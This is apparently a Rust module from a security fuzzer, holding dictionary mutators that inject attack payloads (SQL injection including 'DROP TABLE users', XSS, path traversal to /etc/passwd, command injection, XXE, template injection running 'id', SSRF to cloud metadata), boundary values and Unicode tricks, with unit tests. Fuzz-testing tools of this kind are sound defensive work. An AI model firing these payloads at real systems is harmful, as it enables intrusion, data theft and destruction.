//! Dictionary-driven mutators: attack payloads, boundary values and Unicode
//! tricks.

use super::infer::TypeInferrer;
use super::{InputType, MutationError, MutationType, Mutator, pick};
use crate::random::SharedRandom;
use std::collections::HashMap;

/// Payload families used by [`SmartMutator`] and the JSON injection mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PayloadType {
    Sqli,
    Xss,
    PathTraversal,
    CommandInjection,
    Ldap,
    Xml,
    Ssti,
    NoSql,
    EmailFormat,
    Url,
}

impl PayloadType {
    pub const ALL: [PayloadType; 10] = [
        PayloadType::Sqli,
        PayloadType::Xss,
        PayloadType::PathTraversal,
        PayloadType::CommandInjection,
        PayloadType::Ldap,
        PayloadType::Xml,
        PayloadType::Ssti,
        PayloadType::NoSql,
        PayloadType::EmailFormat,
        PayloadType::Url,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            PayloadType::Sqli => "sqli",
            PayloadType::Xss => "xss",
            PayloadType::PathTraversal => "path_traversal",
            PayloadType::CommandInjection => "command_injection",
            PayloadType::Ldap => "ldap",
            PayloadType::Xml => "xml",
            PayloadType::Ssti => "ssti",
            PayloadType::NoSql => "nosql",
            PayloadType::EmailFormat => "email_format",
            PayloadType::Url => "url",
        }
    }

    pub fn payloads(self) -> &'static [&'static str] {
        match self {
            PayloadType::Sqli => &[
                "' OR '1'='1",
                "' OR 1=1--",
                "\" OR \"1\"=\"1",
                "'; DROP TABLE users;--",
                "1' UNION SELECT NULL,NULL--",
                "1' AND SLEEP(5)--",
                "admin'--",
                "' OR ''='",
                "1; WAITFOR DELAY '0:0:5'--",
            ],
            PayloadType::Xss => &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "javascript:alert(1)",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
                "<iframe src=javascript:alert(1)>",
                "<body onload=alert(1)>",
            ],
            PayloadType::PathTraversal => &[
                "../../../../etc/passwd",
                "..\\..\\..\\..\\windows\\win.ini",
                "....//....//....//etc/passwd",
                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "..%252f..%252f..%252fetc%252fpasswd",
                "/etc/passwd%00.png",
                "..%c0%af..%c0%afetc%c0%afpasswd",
            ],
            PayloadType::CommandInjection => &[
                "; id",
                "| id",
                "&& id",
                "`id`",
                "$(id)",
                "; cat /etc/passwd",
                "| sleep 5",
                "\nid\n",
            ],
            PayloadType::Ldap => &[
                "*",
                "*)(uid=*))(|(uid=*",
                "admin)(&)",
                "*)(|(password=*))",
                "\\2a",
                "x)(objectClass=*",
            ],
            PayloadType::Xml => &[
                "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">]><lolz>&lol;</lolz>",
                "]]><evil/>",
                concat!(
                    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\">",
                    "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>"
                ),
            ],
            PayloadType::Ssti => &[
                "{{7*7}}",
                "${7*7}",
                "<%= 7*7 %>",
                "#{7*7}",
                "{{config}}",
                "{{''.__class__.__mro__}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
            ],
            PayloadType::NoSql => &[
                "{\"$gt\": \"\"}",
                "{\"$ne\": null}",
                "{\"$where\": \"sleep(5000)\"}",
                "{\"$regex\": \".*\"}",
                "'; return true; var x='",
                "[$ne]=1",
            ],
            PayloadType::EmailFormat => &[
                "user@",
                "@example.com",
                "user@@example.com",
                "\"user\\\"@\"@example.com",
                "user@[127.0.0.1]",
                "user+tag@example.com",
                "user@example.com%0aBcc:victim@example.com",
                "user@exa mple.com",
            ],
            PayloadType::Url => &[
                "http://127.0.0.1",
                "http://localhost:22",
                "http://169.254.169.254/latest/meta-data/",
                "file:///etc/passwd",
                "gopher://127.0.0.1:6379/_INFO",
                "http://[::1]/",
                "http://example.com@evil.com",
                "//evil.com",
            ],
        }
    }
}

/// Replaces or decorates the input with a payload from one family.
pub struct SmartMutator {
    payload_type: PayloadType,
    name: String,
    rng: SharedRandom,
}

impl SmartMutator {
    pub fn new(payload_type: PayloadType, rng: SharedRandom) -> Self {
        Self {
            payload_type,
            name: format!("smart_{}", payload_type.as_str()),
            rng,
        }
    }

    pub fn payload_type(&self) -> PayloadType {
        self.payload_type
    }

    fn payload(&self) -> &'static [u8] {
        pick(&*self.rng, self.payload_type.payloads()).as_bytes()
    }

    pub fn append_payload(&self, input: &[u8]) -> Vec<u8> {
        let mut out = input.to_vec();
        out.extend_from_slice(self.payload());
        out
    }

    pub fn prepend_payload(&self, input: &[u8]) -> Vec<u8> {
        let mut out = self.payload().to_vec();
        out.extend_from_slice(input);
        out
    }
}

impl Mutator for SmartMutator {
    fn name(&self) -> &str {
        &self.name
    }

    fn description(&self) -> &str {
        "Replaces the input with an attack payload"
    }

    fn mutate(&self, _input: &[u8]) -> Result<Vec<u8>, MutationError> {
        Ok(self.payload().to_vec())
    }

    fn mutation_type(&self) -> MutationType {
        MutationType::Dictionary
    }
}

/// Swaps a typed input for an edge-case value of the same type.
pub struct BoundaryMutator {
    tables: HashMap<InputType, Vec<Vec<u8>>>,
    inferrer: TypeInferrer,
    rng: SharedRandom,
}

impl BoundaryMutator {
    pub fn new(rng: SharedRandom) -> Self {
        Self {
            tables: boundary_tables(),
            inferrer: TypeInferrer::new(),
            rng,
        }
    }

    pub fn values(&self, input_type: InputType) -> Option<&[Vec<u8>]> {
        self.tables.get(&input_type).map(Vec::as_slice)
    }
}

fn boundary_tables() -> HashMap<InputType, Vec<Vec<u8>>> {
    let mut integers: Vec<String> = ["0", "-1", "1"].iter().map(|s| s.to_string()).collect();
    integers.extend(
        [
            i64::from(i8::MIN),
            i64::from(i8::MAX),
            i64::from(u8::MAX),
            i64::from(u8::MAX) + 1,
            i64::from(i16::MIN),
            i64::from(i16::MAX),
            i64::from(u16::MAX),
            i64::from(u16::MAX) + 1,
            i64::from(i32::MIN),
            i64::from(i32::MAX),
            i64::from(u32::MAX),
            i64::MIN,
            i64::MAX,
        ]
        .iter()
        .map(i64::to_string),
    );

    let floats = [
        "0.0",
        "-0.0",
        "NaN",
        "Infinity",
        "-Infinity",
        "1.7976931348623157e308",
        "-1.7976931348623157e308",
        "2.2250738585072014e-308",
        "4.9e-324",
        "1e-7",
    ];

    let strings: Vec<Vec<u8>> = vec![
        Vec::new(),
        vec![0u8],
        vec![b'A'; 256],
        vec![b'A'; 1024],
        vec![b'A'; 65536],
        "\u{FEFF}".as_bytes().to_vec(),
        b"\r\n".to_vec(),
        b"%00".to_vec(),
        b"\\0".to_vec(),
        b"\\x00".to_vec(),
        b"\\u0000".to_vec(),
    ];

    let uuids = [
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "00000000-0000-0000-0000-00000000000",
        "550e8400-e29b-41d4-a716-44665544000G",
        "550e8400e29b41d4a716446655440000",
    ];

    let long_local = format!("{}@example.com", "a".repeat(65));
    let emails = [
        "a@b.c",
        "@example.com",
        "user@",
        "user@@example.com",
        long_local.as_str(),
        "user@localhost",
        "\"quoted\"@example.com",
    ];

    let as_bytes = |items: &[&str]| -> Vec<Vec<u8>> {
        items.iter().map(|s| s.as_bytes().to_vec()).collect()
    };
    let mut tables = HashMap::new();
    tables.insert(
        InputType::Integer,
        integers.into_iter().map(String::into_bytes).collect(),
    );
    tables.insert(InputType::Float, as_bytes(&floats));
    tables.insert(InputType::String, strings);
    tables.insert(InputType::Uuid, as_bytes(&uuids));
    tables.insert(InputType::Email, as_bytes(&emails));
    tables
}

impl Mutator for BoundaryMutator {
    fn name(&self) -> &str {
        "boundary"
    }

    fn description(&self) -> &str {
        "Substitutes a boundary value for the inferred input type"
    }

    fn mutate(&self, input: &[u8]) -> Result<Vec<u8>, MutationError> {
        self.mutate_with_type(input, self.inferrer.infer_type(input))
    }

    fn mutate_with_type(
        &self,
        input: &[u8],
        input_type: InputType,
    ) -> Result<Vec<u8>, MutationError> {
        match self.tables.get(&input_type) {
            Some(values) if !values.is_empty() => Ok(pick(&*self.rng, values).clone()),
            _ => Ok(input.to_vec()),
        }
    }

    fn mutation_type(&self) -> MutationType {
        MutationType::InterestingValues
    }
}

/// One Unicode trick applied by [`UnicodeAttackMutator`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnicodeAttack {
    Homoglyph,
    NullByte,
    OverlongUtf8,
    RightToLeftOverride,
    ZeroWidth,
}

impl UnicodeAttack {
    pub const ALL: [UnicodeAttack; 5] = [
        UnicodeAttack::Homoglyph,
        UnicodeAttack::NullByte,
        UnicodeAttack::OverlongUtf8,
        UnicodeAttack::RightToLeftOverride,
        UnicodeAttack::ZeroWidth,
    ];
}

/// ASCII letters and their Cyrillic lookalikes.
const HOMOGLYPHS: &[(u8, char)] = &[
    (b'a', '\u{0430}'),
    (b'c', '\u{0441}'),
    (b'e', '\u{0435}'),
    (b'i', '\u{0456}'),
    (b'o', '\u{043E}'),
    (b'p', '\u{0440}'),
    (b'x', '\u{0445}'),
    (b'y', '\u{0443}'),
    (b'A', '\u{0410}'),
    (b'B', '\u{0412}'),
    (b'E', '\u{0415}'),
    (b'O', '\u{041E}'),
];

const OVERLONG_SEQUENCES: &[&[u8]] = &[
    &[0xC0, 0xAF],
    &[0xE0, 0x80, 0xAF],
    &[0xC0, 0x80],
    &[0xF0, 0x80, 0x80, 0xAF],
];

const ZERO_WIDTH: &[char] = &['\u{200B}', '\u{200C}', '\u{200D}', '\u{FEFF}'];

const RIGHT_TO_LEFT_OVERRIDE: char = '\u{202E}';

pub struct UnicodeAttackMutator {
    rng: SharedRandom,
}

impl UnicodeAttackMutator {
    pub fn new(rng: SharedRandom) -> Self {
        Self { rng }
    }

    pub fn apply(&self, input: &[u8], attack: UnicodeAttack) -> Vec<u8> {
        match attack {
            UnicodeAttack::Homoglyph => {
                let hit = input.iter().enumerate().find_map(|(pos, b)| {
                    HOMOGLYPHS
                        .iter()
                        .find(|(ascii, _)| ascii == b)
                        .map(|(_, glyph)| (pos, *glyph))
                });
                match hit {
                    Some((pos, glyph)) => {
                        let mut buf = [0u8; 4];
                        let encoded = glyph.encode_utf8(&mut buf).as_bytes();
                        let mut out = Vec::with_capacity(input.len() + encoded.len());
                        out.extend_from_slice(&input[..pos]);
                        out.extend_from_slice(encoded);
                        out.extend_from_slice(&input[pos + 1..]);
                        out
                    }
                    None => input.to_vec(),
                }
            }
            UnicodeAttack::NullByte => self.insert_at_random(input, &[0u8]),
            UnicodeAttack::OverlongUtf8 => {
                let mut out = input.to_vec();
                out.extend_from_slice(*pick(&*self.rng, OVERLONG_SEQUENCES));
                out
            }
            UnicodeAttack::RightToLeftOverride => {
                let mut buf = [0u8; 4];
                let mut out = RIGHT_TO_LEFT_OVERRIDE.encode_utf8(&mut buf).as_bytes().to_vec();
                out.extend_from_slice(input);
                out
            }
            UnicodeAttack::ZeroWidth => {
                let mut buf = [0u8; 4];
                let encoded = pick(&*self.rng, ZERO_WIDTH)
                    .encode_utf8(&mut buf)
                    .as_bytes()
                    .to_vec();
                self.insert_at_random(input, &encoded)
            }
        }
    }

    fn insert_at_random(&self, input: &[u8], bytes: &[u8]) -> Vec<u8> {
        let pos = self.rng.uniform_int(input.len() + 1);
        let mut out = Vec::with_capacity(input.len() + bytes.len());
        out.extend_from_slice(&input[..pos]);
        out.extend_from_slice(bytes);
        out.extend_from_slice(&input[pos..]);
        out
    }
}

impl Mutator for UnicodeAttackMutator {
    fn name(&self) -> &str {
        "unicode_attack"
    }

    fn description(&self) -> &str {
        "Applies a homoglyph, NUL, overlong, RTL or zero-width trick"
    }

    fn mutate(&self, input: &[u8]) -> Result<Vec<u8>, MutationError> {
        let attack = *pick(&*self.rng, &UnicodeAttack::ALL);
        Ok(self.apply(input, attack))
    }

    fn mutation_type(&self) -> MutationType {
        MutationType::Dictionary
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::random::SeededRandom;

    #[test]
    fn smart_mutator_replaces_appends_and_prepends() {
        let m = SmartMutator::new(PayloadType::Sqli, SeededRandom::shared(1));
        let payloads: Vec<&[u8]> = PayloadType::Sqli
            .payloads()
            .iter()
            .map(|p| p.as_bytes())
            .collect();

        let replaced = m.mutate(b"hello").unwrap();
        assert!(payloads.contains(&replaced.as_slice()));

        let appended = m.append_payload(b"hello");
        assert!(appended.starts_with(b"hello"));
        assert!(payloads.contains(&&appended[5..]));

        let prepended = m.prepend_payload(b"hello");
        assert!(prepended.ends_with(b"hello"));
        assert!(payloads.contains(&&prepended[..prepended.len() - 5]));
    }

    #[test]
    fn every_payload_family_is_populated() {
        for payload_type in PayloadType::ALL {
            assert!(!payload_type.payloads().is_empty(), "{payload_type:?}");
        }
    }

    #[test]
    fn boundary_mutator_uses_type_table() {
        let m = BoundaryMutator::new(SeededRandom::shared(2));
        let table = m.values(InputType::Integer).unwrap().to_vec();
        assert!(table.contains(&b"-128".to_vec()));
        assert!(table.contains(&b"65535".to_vec()));
        for _ in 0..20 {
            let out = m.mutate(b"42").unwrap_or_default();
            // "42" infers as hex, which has no table.
            assert_eq!(out, b"42".to_vec());
            let out = m.mutate(b"123").unwrap();
            assert!(table.contains(&out));
        }
        let strings = m.values(InputType::String).unwrap();
        assert!(strings.iter().any(|s| s.len() == 65536));
        assert!(strings.iter().any(Vec::is_empty));
    }

    #[test]
    fn boundary_mutator_passes_unknown_types_through() {
        let m = BoundaryMutator::new(SeededRandom::shared(3));
        assert_eq!(m.mutate_with_type(b"<a/>", InputType::Xml).unwrap(), b"<a/>".to_vec());
        assert_eq!(m.mutate(b"").unwrap(), Vec::<u8>::new());
    }

    #[test]
    fn unicode_attacks() {
        let m = UnicodeAttackMutator::new(SeededRandom::shared(4));

        let glyph = m.apply(b"zzaz", UnicodeAttack::Homoglyph);
        assert_eq!(glyph, "zz\u{0430}z".as_bytes());
        assert_eq!(m.apply(b"123", UnicodeAttack::Homoglyph), b"123".to_vec());

        let nul = m.apply(b"abc", UnicodeAttack::NullByte);
        assert_eq!(nul.len(), 4);
        assert_eq!(nul.iter().filter(|b| **b == 0).count(), 1);

        let overlong = m.apply(b"abc", UnicodeAttack::OverlongUtf8);
        assert!(overlong.starts_with(b"abc"));
        assert!(overlong.len() > 3);
        assert!(std::str::from_utf8(&overlong).is_err());

        let rlo = m.apply(b"abc", UnicodeAttack::RightToLeftOverride);
        assert!(rlo.starts_with("\u{202E}".as_bytes()));

        let zw = m.apply(b"", UnicodeAttack::ZeroWidth);
        assert!(ZERO_WIDTH.iter().any(|c| c.to_string().as_bytes() == zw.as_slice()));
    }
}
